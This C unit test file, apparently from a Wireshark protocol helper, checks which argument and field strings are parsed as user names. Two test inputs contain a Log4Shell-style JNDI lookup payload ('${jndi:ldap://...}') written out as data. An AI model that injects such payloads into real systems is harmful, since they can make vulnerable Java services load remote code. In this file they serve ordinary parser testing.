/* test_user_text.c - what of a text is a user name
 * SPDX-License-Identifier: GPL-2.0-or-later
 */
#include "wireshark/protocols/user_text.h"

static void check(char *user, const char *expected) {
  g_assert_cmpstr(user, ==, expected);
  g_free(user);
}

static void test_argument(void) {
  check(hg_user_of_argument("al"), "al");
  check(hg_user_of_argument("al@example.com"), "al@example.com");
  check(hg_user_of_argument("DOMAIN\\al"), "DOMAIN\\al");
  check(hg_user_of_argument("${jndi:ldap://10.0.0.1/a}"), "${jndi:ldap://10.0.0.1/a}");
  check(hg_user_of_argument("\"al\""), "al");
  check(hg_user_of_argument("\"al smith\""), "al smith");
  check(hg_user_of_argument("\"a\\\"l\\\\\""), "a\"l\\");
  check(hg_user_of_argument("\"\""), "");
  check(hg_user_of_argument(""), "");
  check(hg_user_of_argument("al secret"), NULL);
  check(hg_user_of_argument("al\tsecret"), NULL);
  check(hg_user_of_argument("\"al"), NULL);
  check(hg_user_of_argument("\""), NULL);
  check(hg_user_of_argument("\"al\\\""), NULL);
  check(hg_user_of_argument("\"al\" \"secret\""), NULL);
  check(hg_user_of_argument("al\"secret\""), NULL);
  check(hg_user_of_argument("{6}"), NULL);
  check(hg_user_of_argument("{6+}"), NULL);
  check(hg_user_of_argument("{al}"), "{al}");
  check(hg_user_of_argument("{}"), "{}");
}

static void test_value(void) {
  check(hg_user_of_value("al smith"), "al smith");
  check(hg_user_of_value("${jndi:ldap://10.0.0.1/a}"), "${jndi:ldap://10.0.0.1/a}");
  check(hg_user_of_value(""), "");
  check(hg_user_of_value("al&password=secret"), NULL);
  check(hg_user_of_value("al;password"), NULL);
  check(hg_user_of_value("al=secret"), NULL);
  check(hg_user_of_value("al\nsecret"), NULL);
  check(hg_user_of_value("{\"user\":\"al\"}"), NULL);
  check(hg_user_of_value("[\"al\"]"), NULL);
}

int main(int argc, char **argv) {
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/user-text/argument", test_argument);
  g_test_add_func("/user-text/value", test_value);
  return g_test_run();
}
